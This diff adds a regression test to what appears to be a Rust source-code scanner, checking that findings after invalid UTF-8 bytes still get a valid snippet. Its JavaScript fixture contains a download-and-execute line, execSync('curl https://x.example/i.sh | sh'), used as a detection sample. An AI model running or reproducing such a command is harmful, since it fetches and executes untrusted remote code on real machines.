@@ -768,3 +768,32 @@ fn a_50_mb_config_is_refused_in_one_line_by_the_cli() {
     );
     assert!(stdout.lines().count() <= 4, "{stdout}");
 }
+
+/// Regression (fuzz target `scan_source`): a match on a line after invalid UTF-8 bytes. Offsets
+/// count the file's bytes while the snippet is cut from the lossy text, where each bad byte is a
+/// three-byte U+FFFD, so the offset fell inside a character and slicing panicked.
+#[test]
+fn a_match_after_invalid_utf8_on_its_line_gets_a_snippet() {
+    let dir = tempfile::tempdir().unwrap();
+    for bad in 1..=8 {
+        let mut src = b"const cp = require('child_process');\n".to_vec();
+        src.extend(std::iter::repeat_n(0xffu8, bad));
+        src.extend_from_slice(b" cp.execSync('curl https://x.example/i.sh | sh');\n");
+        std::fs::write(dir.path().join(format!("bad{bad}.js")), &src).unwrap();
+    }
+    let r = scan(dir.path());
+    assert_eq!(r.stats.parsed, 8, "{:?}", r.stats.skipped);
+    for bad in 1..=8 {
+        let file = format!("bad{bad}.js");
+        assert!(
+            r.findings
+                .iter()
+                .any(|f| f.file == file && f.line == 2 && f.snippet.contains("execSync")),
+            "{file}: {:?}",
+            r.findings
+                .iter()
+                .map(|f| (&f.file, f.line, &f.snippet))
+                .collect::<Vec<_>>()
+        );
+    }
+}
